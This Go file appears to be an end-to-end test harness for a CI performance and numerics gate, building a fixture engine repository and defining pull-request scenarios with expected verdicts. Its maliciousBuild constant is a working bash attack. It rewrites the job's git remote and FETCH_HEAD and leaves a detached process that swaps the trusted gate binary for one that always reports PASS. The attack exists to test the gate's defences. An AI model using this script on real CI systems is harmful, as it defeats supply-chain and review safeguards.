package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// The fixture engine repository: a small git repository whose engine is the reference engine,
// built from source (its own copy of cmd/refengine, refengine/ and wire/) by the repository's
// build script build.sh. engine.flags holds the flags this tree's build bakes into bin/engine:
// a PR branch that slows every step or breaks the allreduce changes that file, as a kernel PR
// changes the kernels. .reckon/ is what docs/ci.md tells an engine team to add.

const fixtureBuild = `#!/usr/bin/env bash
# The engine's build: the reference engine from this tree's source, with this tree's flags
# (engine.flags) baked into PREFIX/bin/engine.
set -euo pipefail
src="$(cd "$(dirname "$0")" && pwd)"
mkdir -p "$1/bin"
prefix="$(cd "$1" && pwd)"
(cd "$src" && go build -o "$prefix/bin/refengine" ./cmd/refengine)
flags="$(cat "$src/engine.flags")"
printf '#!/bin/sh\nexec "%s/bin/refengine" %s "$@"\n' "$prefix" "$flags" > "$prefix/bin/engine"
chmod +x "$prefix/bin/engine"
`

// fixtureBuildEngine is the repository's .reckon/build-engine.sh (SRC PREFIX [BASE_REV]), the
// counterpart of ci/engine/build/sglang.sh for this engine: it calls the engine's own build.
const fixtureBuildEngine = `#!/usr/bin/env bash
# .reckon/build-engine.sh SRC PREFIX [BASE_REV]: the engine's own build (build.sh) of SRC.
set -euo pipefail
if [ -n "${3:-}" ]; then
	echo "build-engine: changed since $3:"
	git -C "$1" diff --stat "$3" HEAD
fi
"$1/build.sh" "$2"
`

const fixturePremerge = `# The fixture engine's pre-merge gate: main's build against the PR's.
name: premerge
tags: [premerge]
engine:
  kind: sglang
  model: MODEL_PATH
  tp_size: 2
  # The device clock (each step lasts its modelled time): the A/B verdict does not depend on
  # what else loads a shared 2-core CI machine between main's and the PR's launches.
  args: [--dtype, bfloat16, --random-seed, "1", --clock, modelled]
  ready_timeout: 60s
  stop_grace: 5s
configs:
  - name: main
    command: [engines/main/bin/engine]
    expect: {allreduce: custom}
  - name: main-nccl
    command: [engines/main/bin/engine]
    disable_custom_all_reduce: true
    expect: {allreduce: nccl}
  - name: pr
    command: [engines/pr/bin/engine]
    expect: {allreduce: custom}
workloads:
  - name: decode
    configs: [main, pr]
    concurrency: 4
    num_prompts: 8
    input_len: 16
    output_len: 16
    warmup: 1
    trials: 3
    launches: 3
    request_timeout: 30s
numerics:
  prompts: numerics.jsonl
  max_tokens: 16
  top_logprobs: 5
checks:
  - kind: equivalence
    base: main
    head: pr
    twin: main-nccl
  - kind: throughput
    config: pr
    workload: decode
    metric: output_throughput
    against: config:main
    min_effect: 30%             # a shared 2-core CI machine: the slow PR is -50%, a healthy one within ±20%
    alpha: 0.05
`

// loosened is loosenedPremerge with the machine's model path (set by writeFixture).
var loosened string

// loosenedPremerge is what the loosened-spec PR writes over .reckon/premerge.yaml: no
// equivalence check, and a throughput check no slowdown can fail.
const loosenedPremerge = `name: premerge
tags: [premerge]
engine:
  kind: sglang
  model: MODEL_PATH
  tp_size: 2
  ready_timeout: 60s
configs:
  - name: main
    command: [engines/main/bin/engine]
  - name: pr
    command: [engines/pr/bin/engine]
workloads:
  - name: decode
    concurrency: 4
    num_prompts: 16
    input_len: 16
    output_len: 24
    trials: 2
checks:
  - kind: floor
    metric: kv_cache_tokens
    min: 1
`

const fixtureNightly = `# The fixture engine's nightly: two groups (nccl, custom-ar), one per shard: nccl judged against
# the history of its nights (read-only in the shard), custom-ar against the stored baselines.
name: nightly
tags: [nightly]
engine:
  kind: sglang
  command: [engines/main/bin/engine]
  model: MODEL_PATH
  # The device clock: each step lasts its modelled time (max of the real compute and the
  # modelled GPU's), so a night compared with baselines recorded earlier does not depend on what
  # else loads a shared 2-core CI machine.
  args: [--clock, modelled]
  tp_size: 2
  ready_timeout: 60s
  stop_grace: 5s
configs:
  - name: nccl
    disable_custom_all_reduce: true
    expect: {allreduce: nccl}
  - name: custom-ar
    expect: {allreduce: custom}
workloads:
  - name: decode
    concurrency: 4
    num_prompts: 16
    input_len: 16
    output_len: 24
    warmup: 1
    trials: 3
    request_timeout: 30s
checks:
  - kind: floor
    metric: kv_cache_tokens
    min: 1000
  # The nightly detector over the history of nights (docs/history.md): nights 1 and 2 bootstrap
  # it (RECKON_BOOTSTRAP, no --strict), night 3 is judged against them.
  - kind: throughput
    config: nccl
    workload: decode
    metric: output_throughput
    against: history
    test: detect
    history_runs: 2
    min_effect: 50%
    alpha: 0.06
    power: 80%
  - kind: throughput
    config: custom-ar
    workload: decode
    metric: output_throughput
    against: baseline
    min_effect: 50%
`

// writeFixture fills dir with the main branch's tree. The specs name the model by its path on
// the GPU machine (docs/ci.md step 1: local models on the machine), models/tiny.json next to
// the repository, so they do not depend on where a template checks the repository out.
func writeFixture(repoRoot, dir string) error {
	models := filepath.Join(filepath.Dir(dir), "machine", "models")
	if err := copyFile(filepath.Join(repoRoot, "fixtures/models/tiny.json"), filepath.Join(models, "tiny.json")); err != nil {
		return err
	}
	modelPath := filepath.Join(models, "tiny.json")
	fixturePremerge := strings.ReplaceAll(fixturePremerge, "MODEL_PATH", modelPath)
	fixtureNightly := strings.ReplaceAll(fixtureNightly, "MODEL_PATH", modelPath)
	loosened = strings.ReplaceAll(loosenedPremerge, "MODEL_PATH", modelPath)
	files := map[string]string{
		"build.sh":                 fixtureBuild,
		"engine.flags":             "",
		".reckon/build-engine.sh":  fixtureBuildEngine,
		".reckon/premerge.yaml":    fixturePremerge,
		".reckon/nightly.yaml":     fixtureNightly,
		"README.md":                "# fixture engine\n\nThe reference engine, built by build.sh. reckon gates it (.reckon/).\n",
		".gitignore":               "engines/\nout/\nout-*/\nshards/\ntrusted/\n.bin/\nhistory/\ncomment/\n",
		".reckon/baselines/README": "Baselines of this testbed, recorded by reckon baseline record.\n",
	}
	for name, body := range files {
		if err := writeFile(filepath.Join(dir, name), body, strings.HasSuffix(name, ".sh")); err != nil {
			return err
		}
	}
	copies := map[string]string{
		"ci/scripts/gpu-lock.sh":       ".reckon/gpu-lock.sh",
		"ci/scripts/step-summary.sh":   ".reckon/step-summary.sh",
		"ci/scripts/install-reckon.sh": ".reckon/install-reckon.sh",
		"go.mod":                       "go.mod",
		"go.sum":                       "go.sum",
	}
	// The numerics prompts: the first 8 of reckon's (each is probed one token at a time on the
	// device clock; 8 keep a pre-merge run short and still show a 1% allreduce error).
	b, err := os.ReadFile(filepath.Join(repoRoot, "fixtures/prompts/numerics.jsonl"))
	if err != nil {
		return err
	}
	lines := strings.SplitAfter(string(b), "\n")
	if err := writeFile(filepath.Join(dir, ".reckon/numerics.jsonl"), strings.Join(lines[:min(8, len(lines))], ""), false); err != nil {
		return err
	}
	for _, s := range []string{"contain.py", "reckon.sh"} {
		if _, err := os.Stat(filepath.Join(repoRoot, "ci/scripts", s)); err == nil {
			copies["ci/scripts/"+s] = ".reckon/" + s
		}
	}
	for from, to := range copies {
		if err := copyFile(filepath.Join(repoRoot, from), filepath.Join(dir, to)); err != nil {
			return err
		}
	}
	// The engine's source: the reference engine's packages of this module (its import
	// closure, e.g. refengine/..., wire, internal/...), without tests.
	deps, err := sh(repoRoot, nil, "go", "list", "-deps", "-f", "{{if not .Standard}}{{if .Module}}{{if .Module.Main}}{{.Dir}}{{end}}{{end}}{{end}}", "./cmd/refengine")
	if err != nil {
		return err
	}
	for _, pkgDir := range strings.Fields(deps) {
		ents, err := os.ReadDir(pkgDir)
		if err != nil {
			return err
		}
		for _, d := range ents {
			p := filepath.Join(pkgDir, d.Name())
			if d.IsDir() || !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
				continue
			}
			rel, _ := filepath.Rel(repoRoot, p)
			if err := copyFile(p, filepath.Join(dir, rel)); err != nil {
				return err
			}
		}
	}
	return nil
}

func writeFile(p, body string, exec bool) error {
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	mode := os.FileMode(0o644)
	if exec {
		mode = 0o755
	}
	return os.WriteFile(p, []byte(body), mode)
}

func copyFile(from, to string) error {
	b, err := os.ReadFile(from)
	if err != nil {
		return err
	}
	st, err := os.Stat(from)
	if err != nil {
		return err
	}
	return writeFile(to, string(b), st.Mode()&0o111 != 0)
}

// scenario is a PR branch: what it changes on top of main, and the verdict the gate must give.
type scenario struct {
	name, expected string
	edit           func(dir string) error
	// byTemplate overrides expected for a template (github, gitlab, buildkite).
	byTemplate map[string]string
}

// expect is the verdict the scenario must get from template t.
func (sc scenario) expect(t string) string {
	if e, ok := sc.byTemplate[t]; ok {
		return e
	}
	return sc.expected
}

// maliciousBuild is what the malicious-build PR puts at the top of its build.sh (the PR's code
// that the templates run in their build step): it rewrites the job's .git (remote.origin.url and
// FETCH_HEAD point at a repository of its own whose .reckon/premerge.yaml has checks: []) and
// leaves a process behind that waits for the trusted tree and then swaps trusted/.bin/reckon for
// a script that runs reckon and says PASS, exit 0, whatever it found, and the trusted spec for
// the checks: [] one. Its engine is also twice as slow: a gate that is still the trusted one
// judges it red.
const maliciousBuild = `#!/usr/bin/env bash
set -euo pipefail
# --- the attack (templates-e2e malicious-build) ---
ws="$PWD"
src="$(cd "$(dirname "$0")" && pwd)"
evil="$(mktemp -d)"
cp -r "$src/.reckon" "$evil/"
sed -i '/^checks:/,$d' "$evil/.reckon/premerge.yaml"
echo 'checks: []' >> "$evil/.reckon/premerge.yaml"
cp "$evil/.reckon/premerge.yaml" "$evil/loose.yaml"
git -C "$evil" init -q -b main
git -C "$evil" add .reckon
git -C "$evil" -c user.name=x -c user.email=x@x commit -qm evil
for g in "$ws/.git" "$ws/pr/.git" "$ws/base/.git" "$src/.git"; do
	[ -d "$g" ] || continue
	git --git-dir "$g" fetch -q "$evil" main || true
	git --git-dir "$g" config remote.origin.url "$evil"
	printf '%s\t\tbranch '"'"'main'"'"' of %s\n' "$(git -C "$evil" rev-parse HEAD)" "$evil" > "$g/FETCH_HEAD"
done
cat > "$evil/swap.sh" <<'SWAP'
#!/usr/bin/env bash
ws="$1" evil="$2"
for _ in $(seq 1 3000); do
	[ -d "$ws" ] || exit 0
	for d in "$ws/trusted/.bin" "$ws/.bin"; do
		if [ -f "$d/reckon" ] && [ ! -e "$d/.real-reckon" ]; then
			cp "$d/reckon" "$d/.real-reckon"
			printf '#!/bin/sh\n"%s/.real-reckon" "$@"\n[ $? = 0 ] || echo "PASS: 0 passed (swapped reckon)"\nexit 0\n' "$d" > "$d/reckon.new"
			chmod +x "$d/reckon.new" && mv "$d/reckon.new" "$d/reckon"
			echo "malicious-build: swapped $d/reckon" >> "$ws.attack.log"
		fi
	done
	s="$ws/trusted/.reckon/premerge.yaml"
	if [ -f "$s" ] && ! cmp -s "$s" "$evil/loose.yaml"; then
		cp "$evil/loose.yaml" "$s"
		echo "malicious-build: swapped $s" >> "$ws.attack.log"
	fi
	sleep 0.2
done
SWAP
( setsid bash "$evil/swap.sh" "$ws" "$evil" </dev/null >/dev/null 2>&1 & )
echo "malicious-build: rewrote .git (remote.origin.url, FETCH_HEAD), left the swapper running" >> "$ws.attack.log"
echo "malicious-build: .git rewritten, swapper left running (log $ws.attack.log)"
# --- the engine's own build ---
`

var scenarios = []scenario{
	{"healthy", "green", func(dir string) error {
		return writeFile(filepath.Join(dir, "README.md"), "# fixture engine\n\nA harmless change.\n", false)
	}, nil},
	// Every step twice as slow: far beyond the run-to-run noise of a 2-core machine.
	{"slow", "red", func(dir string) error {
		return writeFile(filepath.Join(dir, "engine.flags"), "--fault-slowdown 2", false)
	}, nil},
	// The custom allreduce off by 1% on every sum.
	{"numerics", "red", func(dir string) error {
		return writeFile(filepath.Join(dir, "engine.flags"), "--fault-allreduce-error 1e-2", false)
	}, nil},
	// Slow, and the PR rewrites its gate to pass (the spec) and its baselines: the trusted
	// spec of the base commit still judges it.
	{"loosened-spec", "red", func(dir string) error {
		if err := writeFile(filepath.Join(dir, "engine.flags"), "--fault-slowdown 2", false); err != nil {
			return err
		}
		if err := writeFile(filepath.Join(dir, ".reckon/premerge.yaml"), loosened, false); err != nil {
			return err
		}
		return writeFile(filepath.Join(dir, ".reckon/baselines/README"), "loosened by the PR\n", false)
	}, nil},
	// Slow, and its build attacks the job (maliciousBuild). Where the trusted tree exists before
	// the build (GitLab, Buildkite) the swap happens and the templates' digest check refuses to
	// run the gate (exit 3); on GitHub the trusted tree is checked out after the build, the
	// swapper is ended with the build, and the trusted gate judges the slow PR red.
	{"malicious-build", "red", func(dir string) error {
		if err := writeFile(filepath.Join(dir, "engine.flags"), "--fault-slowdown 2", false); err != nil {
			return err
		}
		b, err := os.ReadFile(filepath.Join(dir, "build.sh"))
		if err != nil {
			return err
		}
		body := strings.Replace(string(b), "#!/usr/bin/env bash\n", maliciousBuild, 1)
		return writeFile(filepath.Join(dir, "build.sh"), body, true)
	}, map[string]string{"gitlab": "refused", "buildkite": "refused"}},
}

// attackLog sums up what the malicious-build PR's swapper did in the workspaces under ws (the
// log its build and its swapper keep beside each workspace), for a row's detail.
func attackLog(detail, ws string) string {
	logs, _ := filepath.Glob(ws + "*.attack.log")
	more, _ := filepath.Glob(filepath.Join(ws, "*.attack.log"))
	swaps := 0
	for _, l := range append(logs, more...) {
		b, _ := os.ReadFile(l)
		swaps += strings.Count(string(b), "swapped ")
	}
	if len(logs)+len(more) == 0 {
		return ""
	}
	return fmt.Sprintf("; attack: %d build(s) rewrote .git, %d file(s) swapped", len(logs)+len(more), swaps)
}

// nights is how many nights the nightly rows run: the first nights bootstrap the history
// (without --strict, appended), the last is judged against it (--strict) with the fixture's
// history_runs: 2.
const nights = 3

// bootstrapNight: nights 1 and 2 bootstrap (the history holds fewer than history_runs runs).
func bootstrapNight(night int) bool { return night < nights }

// bootstrapInput is the nightly workflow's bootstrap input for a night.
func bootstrapInput(night int) string {
	if bootstrapNight(night) {
		return "true"
	}
	return ""
}

func sh(dir string, env []string, name string, args ...string) (string, error) {
	out, err := command(dir, env, name, args...).CombinedOutput()
	if err != nil {
		return string(out), fmt.Errorf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out)), nil
}
